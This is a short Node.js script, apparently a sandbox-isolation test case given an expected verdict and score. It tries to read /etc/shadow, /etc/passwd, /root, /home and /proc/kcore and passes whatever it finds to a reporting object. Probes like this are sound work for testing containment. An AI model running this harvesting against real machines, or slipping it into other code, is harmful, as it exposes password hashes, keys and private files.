/**
 * Passwords, keys, hosts, the project, and what the kernel tells of the machine.
 *
 * @verdict accepted
 * @score at most 100
 * @gets nothing
 */
const fs = require('node:fs');
const places = [
  '/etc/passwd',
  '/etc/shadow',
  '/etc/hosts',
  '/root',
  '/home',
  '/opt',
  '/tmp',
  '/var',
  '/run',
  '/srv',
  '/mnt',
  '/work',
  '/usr/bin',
  '/proc/1/root/etc/passwd',
  '/proc/self/root/etc/passwd',
  '/proc/kcore',
  '/sys',
  '/boot',
];
for (const place of places) {
  wire.attempt(place, () => {
    const found = fs.statSync(place).isDirectory() ? fs.readdirSync(place).join(' ') : fs.readFileSync(place, 'utf8');
    return found === '' ? undefined : found;
  });
}

wire.tell();
